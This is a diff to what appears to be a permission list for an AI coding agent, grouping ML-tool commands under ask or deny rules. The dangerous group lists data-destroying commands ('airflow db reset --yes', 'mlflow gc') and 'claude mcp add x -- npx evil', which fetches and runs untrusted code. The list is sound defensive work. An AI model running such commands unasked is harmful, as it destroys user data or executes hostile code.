@@ -13,6 +13,8 @@ export const learning: readonly Group[] = [
     strict: 'ask',
     why: "changes what is easily undone, or runs the project's own code",
     commands: [
+      'ollama run llama3 "say hi"',
+      'wandb offline',
       'jupyter nbconvert --to html nb.ipynb',
       'jupyter lab --no-browser',
       'torchrun --nproc_per_node=2 train.py',
@@ -31,7 +33,13 @@ export const learning: readonly Group[] = [
     balanced: 'ask',
     strict: 'ask',
     why: 'is dangerous or tells a secret, and legitimate at times',
-    commands: ['huggingface-cli upload o/m .', 'dvc push', 'claude mcp add x -- npx evil'],
+    commands: [
+      'airflow db reset --yes',
+      'mlflow gc --backend-store-uri sqlite:///m.db',
+      'huggingface-cli upload o/m .',
+      'dvc push',
+      'claude mcp add x -- npx evil',
+    ],
   },
   {
     balanced: 'deny',
